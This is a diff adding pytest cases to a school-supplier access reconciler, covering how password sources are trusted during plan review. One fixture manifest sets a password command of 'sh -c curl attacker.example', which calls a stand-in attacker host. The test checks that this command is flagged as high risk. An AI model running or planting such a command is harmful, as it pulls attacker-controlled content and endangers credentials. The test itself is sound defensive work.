@@ -111,13 +111,15 @@ def test_a_part_of_the_manifests_is_compared_with_the_same_part(repo: Repository
     assert {edit[0] for edit in edited(planned)} == {"riverside/till", "riverside/groupcall"}
 
 
-def test_a_word_of_a_moment_to_come_is_said_by_neither(repo: Repository, reconciler: Reconciler) -> None:
-    """It does not count yet, and so it is not taken back either."""
+def test_a_word_of_a_moment_to_come_is_an_edit_and_counts_not_yet(repo: Repository, reconciler: Reconciler) -> None:
+    """Who adds one says something that will count after the merge; one that is in both revisions is no edit."""
     word = (
         "apiVersion: reconciler/v1\nkind: Attestation\nmetadata: {name: later}\nspec:\n  school: greenfield\n"
         "  by: J. Smith\n  on: 2034-09-01\n  expires: 2035-08-31\n  facts: {lawfulBasis: Public Task}\n"
     )
     repo.write("words.yaml", word)
+    (added,) = review(reconciler("plan", "--base", "main", "--format", "json"))["edits"]
+    assert (added["topic"], added["after"]) == ("word", "Public Task")
     repo.commit("a word of tomorrow")
     planned = reconciler("plan", "--base", "HEAD", "--format", "json")
     assert (planned.code, edited(planned)) == (0, set())
@@ -164,6 +166,110 @@ def test_the_rest_is_asked_all_the_same(repo: Repository, sandbox: SandboxServer
     change(repo, "kind: Supplier\nmetadata: {name: till}", "kind: Supplier\nmetadata: {name: newcomer}")
     reconciler("plan", "--base", "main", "--passwords-of-base")
     assert sorted(asked(sandbox)) == ["groupcall.greenfield", "groupcall.riverside"]
+
+
+def test_what_was_retired_since_is_trusted_no_more(
+    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A branch may start where the manifests named a place of a password that the base has taken back since: both the
+    commit where the two met and the tip of the base must name it."""
+    monkeypatch.setenv("OTHER_PASSWORD", PASSWORD)
+    repo.git("checkout", "--quiet", "main")
+    change(repo, "env: ACCESS_PASSWORD", "env: OTHER_PASSWORD")
+    repo.commit("tried")
+    repo.branch("second")
+    repo.git("checkout", "--quiet", "main")
+    change(repo, "env: OTHER_PASSWORD", "env: ACCESS_PASSWORD")
+    repo.commit("taken back")
+    repo.git("checkout", "--quiet", "second")
+    planned = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
+    assert (planned.code, asked(sandbox), edited(planned)) == (4, [], set())
+
+
+def test_no_file_of_the_checkout_is_read_for_a_password(
+    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler, tmp_path: Path
+) -> None:
+    """A change may have put a link in its place; a file elsewhere is read as ever."""
+    outside = tmp_path / "password"
+    outside.write_text(f"{PASSWORD}\n", encoding="utf-8")
+    repo.git("checkout", "--quiet", "main")
+    change(repo, "{env: ACCESS_PASSWORD}", "{file: secrets/password}")
+    repo.write("secrets/password", f"{PASSWORD}\n")
+    repo.commit("a file")
+    arguments = ("plan", "--base", "main", "--passwords-of-base", "--format", "json")
+    assert (reconciler(*arguments).code, asked(sandbox)) == (4, [])
+    change(repo, "{file: secrets/password}", f"{{file: {outside.as_posix()}}}")
+    repo.commit("another file")
+    assert (reconciler(*arguments).code, len(asked(sandbox))) == (0, 4)
+
+
+def test_a_file_of_passwords_in_the_checkout_is_refused(repo: Repository, reconciler: Reconciler) -> None:
+    """This change may have put it there."""
+    repo.write("passwords.env", "ACCESS_PASSWORD=x\n")
+    refused = reconciler("plan", "--base", "main", "--passwords-of-base", "--env-file", "passwords.env")
+    assert refused.code == 64
+    assert "passwords.env is in the checkout" in refused.err
+
+
+def test_where_a_new_supplier_takes_its_password_from_is_shown(repo: Repository, reconciler: Reconciler) -> None:
+    """Whole: after the merge the nightly job runs the program, or reads the variable."""
+    repo.write(
+        "newcomer.yaml",
+        "apiVersion: reconciler/v1\nkind: Supplier\nmetadata: {name: newcomer}\nspec:\n  schools: [greenfield]\n"
+        "  account: {username: new, password: {command: [sh, -c, 'curl attacker.example']}}\n  entities: [Staff]\n",
+    )
+    planned = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
+    (edit,) = [e for e in review(planned)["edits"] if e["topic"] == "password"]
+    assert "curl attacker.example" in edit["after"]
+    assert edit["risk"] == "high"
+    assert "curl attacker.example" in reconciler("plan", "--base", "main", "--passwords-of-base").out
+
+
+def test_what_a_lenient_policy_lets_be_is_named(
+    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler
+) -> None:
+    """Extra entities that are no difference any more do not vanish without a word."""
+    sandbox.tick(GREENFIELD, "till.greenfield", "PersonPhotos")
+    change(repo, "  title: till", "  extraEntities: ignore\n  title: till")
+    planned = reconciler("plan", "--base", "main", "--format", "json")
+    assert planned.code == 0
+    (found,) = [e for e in review(planned)["edits"] if e["topic"] == "read"]
+    assert (found["name"], found["after"], found["effect"], found["risk"]) == (
+        "PersonPhotos",
+        "tolerated",
+        "more",
+        "high",
+    )
+
+
+def test_a_school_without_suppliers_is_looked_at_too(repo: Repository, reconciler: Reconciler) -> None:
+    """Where only changed places are: its lawful basis is a difference like any other, and no exit with 0."""
+    change(
+        repo,
+        "kind: Supplier\nmetadata: {name: till}\nspec:\n",
+        "kind: Supplier\nmetadata: {name: till}\nspec:\n  schools: [greenfield]\n",
+    )
+    change(
+        repo, "metadata: {name: groupcall}\nspec:\n", "metadata: {name: groupcall}\nspec:\n  schools: [greenfield]\n"
+    )
+    repo.commit("nobody at riverside")
+    repo.branch("basis")
+    change(repo, "spec: {schoolId: 12346,", "spec: {consent: {lawfulBasis: Public Task}, schoolId: 12346,")
+    planned = reconciler("plan", "--base", "change", "--changed-only", "--format", "json")
+    assert planned.code == 4
+    assert [school["name"] for school in planned.plan["schools"]] == ["riverside"]
+
+
+def test_a_share_of_a_part_is_no_limit(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
+    """Who looks at a part of the accesses does not know what share of all of them it is."""
+    repo.git("checkout", "--quiet", "main")
+    change(repo, "spec:\n  platforms:", "spec:\n  limits: {revoke: {share: 30%}}\n  platforms:")
+    repo.commit("a limit")
+    change(repo, "entities: [OnlinePaymentOrders]", "entities: []")
+    whole = reconciler("plan", "--base", "main", "--format", "json")
+    part = reconciler("plan", "--base", "main", "--changed-only", "--format", "json")
+    assert (whole.plan["summary"]["revoke"], whole.plan["breaches"]) == (2, [])
+    assert (part.plan["summary"]["revoke"], part.plan["breaches"]) == (2, [])
 
 
 def test_a_new_workspace_is_all_this_changes(
@@ -216,6 +322,7 @@ def test_against_a_snapshot_of_the_base(repo: Repository, sandbox: SandboxServer
 @pytest.mark.parametrize(
     ("arguments", "told"),
     [
+        (["--base", ""], "--base names no revision"),
         (["--changed-only"], "--changed-only is about the revision of --base"),
         (["--passwords-of-base"], "--passwords-of-base is about the revision of --base"),
         (["--max-age", "3d"], "--max-age is about the snapshot of --against"),
